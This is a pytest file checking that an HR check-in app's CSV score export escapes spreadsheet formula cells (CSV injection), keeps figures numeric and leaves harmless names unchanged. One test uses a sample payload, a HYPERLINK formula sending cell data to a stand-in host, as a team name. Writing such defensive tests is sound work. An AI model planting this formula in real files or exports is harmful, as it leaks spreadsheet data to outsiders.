"""CSV exports neutralise formula cells (OWASP CSV injection): every dangerous first character,
through the real export view, and figures written by our code stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from checkins.models import Participation
from checkins.services.rounds import round_open
from org.csv_cells import FORMULA_PREFIXES, csv_cell_neutralise
from org.models import Person, Team
from tests.api.conftest import client_for
from tests.factories import PersonFactory, TeamFactory
from tests.helpers import answer_all, close_and_roll_up


@pytest.fixture
def exported_team(survey):
    """One closed, rolled-up round of a team of twelve who all answered, and an HR admin."""
    team = TeamFactory(name="Plain")
    PersonFactory.create_batch(12, team=team)
    hr = PersonFactory(team=team, role=Person.Role.HR_ADMIN, email="hr-csv@example.com")
    rnd = round_open(survey=survey)
    for participation in Participation.objects.filter(round=rnd):
        answer_all(participation, value=4)
    close_and_roll_up(rnd)
    return team, hr


def _export(team: Team, hr: Person) -> list[dict[str, str]]:
    response = client_for(hr).get("/api/v1/exports/scores.csv", {"team": team.pk})
    assert response.status_code == 200, response.content[:300]
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    "prefix", FORMULA_PREFIXES, ids=[f"U+{ord(p):04X}" for p in FORMULA_PREFIXES]
)
def test_a_team_name_starting_a_formula_is_exported_as_text(exported_team, prefix):
    team, hr = exported_team
    name = f'{prefix}HYPERLINK("https://evil.example/?x="&A1,"Click")'
    # Straight to the table: a name from before the single-line rule, or typed in the admin,
    # must be neutralised too (the export cannot trust what is stored).
    Team.objects.filter(pk=team.pk).update(name=name)
    rows = _export(team, hr)
    assert rows, "the round should give rows"
    for row in rows:
        assert row["team"] == "'" + name
        assert row["team_path"] == "'" + name  # the path starts with the (root) team's name
        # The figures our code writes stay numbers.
        if row["suppressed"] == "false":
            assert float(row["mean"]) >= 0 and int(row["n"]) >= 5


def test_a_harmless_name_and_numbers_are_left_alone(exported_team):
    team, hr = exported_team
    Team.objects.filter(pk=team.pk).update(name="R&D 2026 - Berlin")
    rows = _export(team, hr)
    assert rows and all(row["team"] == "R&D 2026 - Berlin" for row in rows)


def test_the_helper_quotes_text_but_keeps_numbers():
    # A figure our code writes is a number and stays one, negative included (ADR 0026) …
    assert csv_cell_neutralise(-3) == -3
    assert csv_cell_neutralise(-2.5) == -2.5
    assert csv_cell_neutralise(0) == 0
    assert csv_cell_neutralise(None) is None
    # … but text that only looks like a number is text, and is quoted like any other.
    assert csv_cell_neutralise("-3") == "'-3"
    assert csv_cell_neutralise("+1 555 0100") == "'+1 555 0100"
    assert csv_cell_neutralise("\uff1d1+1") == "'\uff1d1+1"
    assert csv_cell_neutralise("Team =1") == "Team =1"
    assert csv_cell_neutralise("") == ""
